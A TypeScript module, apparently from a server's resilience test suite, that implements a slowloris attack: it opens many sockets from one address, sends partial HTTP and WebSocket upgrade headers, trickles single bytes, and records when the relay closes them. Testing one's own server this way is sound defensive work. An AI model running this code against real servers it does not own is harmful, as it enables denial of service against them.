import { createConnection, type Socket } from 'node:net';
import type { Target } from './target.js';

export interface SlowSocketScale {
  /** Sockets opened from the one attacking source (half HTTP requests, half WebSocket upgrades). */
  readonly sockets: number;
  /** One byte per socket every this many ms (a header never completes). */
  readonly byteIntervalMs: number;
  /** How long the attack holds on; then every socket still open is counted and destroyed. */
  readonly durationMs: number;
  /** The attacking source address. */
  readonly localAddress: string;
}

export interface SlowSocketOutcome {
  readonly opened: number;
  /** Connect failed (refused at accept, or the relay reset it before it was usable). */
  readonly failedToConnect: number;
  /** Closed by the relay while the attack held on (ms after the attack started, sorted). */
  readonly closedByRelayAtMs: number[];
  /** Still open when the attack ended. */
  readonly stillOpen: number;
}

const HTTP_START = 'POST /v1/auth/challenge HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ';
const WS_START =
  'GET /v1/live HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nX-Slow: ';

/**
 * Attack 4 (slowloris): many sockets from one source send the start of a request (or WebSocket
 * upgrade) and then one byte every few seconds, never finishing the header, never logging in.
 * Expected: the relay caps such sockets per source and closes them soon (header timeout).
 */
export async function slowSockets(target: Target, scale: SlowSocketScale): Promise<SlowSocketOutcome> {
  const { hostname, port } = new URL(target.base);
  const started = Date.now();
  const open = new Set<Socket>();
  const closedByRelayAtMs: number[] = [];
  let failedToConnect = 0;
  let ending = false;
  const connectOne = (index: number) =>
    new Promise<void>((resolve) => {
      const socket = createConnection({
        host: hostname,
        port: Number(port),
        localAddress: scale.localAddress,
      });
      let connected = false;
      socket.setNoDelay(true);
      // A connect the relay never completes (a full accept queue) counts as refused, after 10 s.
      socket.setTimeout(10_000, () => {
        if (!connected) socket.destroy();
      });
      socket.on('error', () => {});
      socket.on('data', () => {});
      socket.once('connect', () => {
        connected = true;
        socket.setTimeout(0);
        open.add(socket);
        socket.write(index % 2 === 0 ? HTTP_START : WS_START);
        resolve();
      });
      socket.once('close', () => {
        if (!connected) {
          failedToConnect += 1;
          resolve();
          return;
        }
        open.delete(socket);
        if (!ending) closedByRelayAtMs.push(Date.now() - started);
      });
    });
  // Open in batches so the attacker's own event loop keeps trickling bytes.
  for (let i = 0; i < scale.sockets; i += 100) {
    await Promise.all(Array.from({ length: Math.min(100, scale.sockets - i) }, (_, k) => connectOne(i + k)));
  }
  const trickle = setInterval(() => {
    for (const socket of open) if (socket.writable) socket.write('a');
  }, scale.byteIntervalMs);
  const deadline = started + scale.durationMs;
  while (Date.now() < deadline && open.size > 0) await new Promise((resolve) => setTimeout(resolve, 250));
  clearInterval(trickle);
  ending = true;
  const stillOpen = open.size;
  for (const socket of open) socket.destroy();
  return { opened: scale.sockets - failedToConnect, failedToConnect, closedByRelayAtMs, stillOpen };
}
